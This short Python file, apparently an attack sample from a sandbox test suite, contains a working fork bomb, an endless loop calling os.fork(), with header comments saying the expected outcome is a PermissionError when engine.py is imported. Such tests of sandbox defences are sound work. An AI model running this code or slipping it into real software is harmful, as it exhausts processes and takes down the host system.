# Attack: fork without end
# Ends: stub
# Says: engine.py cannot be imported: PermissionError: [Errno 1] Operation not permitted
import os

while True:
    os.fork()
